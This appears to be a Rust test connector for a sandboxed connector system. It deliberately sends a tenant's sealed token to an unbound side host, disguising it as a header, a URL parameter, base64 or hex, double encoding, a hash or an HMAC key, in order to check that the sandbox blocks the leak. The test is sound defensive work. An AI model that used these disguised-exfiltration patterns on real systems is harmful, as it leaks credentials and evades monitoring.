//! Sends the tenant's token to a host that it is not bound to, in various disguises.

use crate::bindings::sendbox::connector::http_outbound::{self, Method, Request};
use crate::bindings::sendbox::connector::sealed::{self, Encoding, Hash, Part};
use crate::bindings::sendbox::connector::types::{Failure, Message, Receipt};
use crate::request::{SIDE, answer, form_type, header, post_with, text, token};

pub fn run(_message: &Message, aim: &str) -> Result<Receipt, Failure> {
    let token = token();
    let written = |encoding| token.encode(encoding);
    let disguised = match aim {
        "raw" | "header" => token,
        "base64" => written(Encoding::Base64),
        "hex" | "url" => written(Encoding::Hex),
        "twice" => written(Encoding::Base64).encode(Encoding::Percent),
        "joined" => sealed::concat(&[text("a="), Part::Sealed(&token), text("&b=1")]),
        "digest" => token.digest(Hash::Sha256).encode(Encoding::Hex),
        "key" => sealed::concat(&[text("x")]).hmac(Hash::Sha256, &token).encode(Encoding::Hex),
        other => panic!("no such aim: {other}"),
    };
    let url = |more| vec![text(SIDE), text("?t="), more];
    let plain = || vec![form_type()];
    answer(match aim {
        "header" => {
            post_with(vec![text(SIDE)], vec![form_type(), header("x-token", Part::Sealed(&disguised))], text(""))
        }
        "url" => http_outbound::send(&Request {
            method: Method::Get,
            url: url(Part::Sealed(&disguised)),
            headers: vec![],
            body: vec![],
        }),
        _ => post_with(vec![text(SIDE)], plain(), Part::Sealed(&disguised)),
    })
}
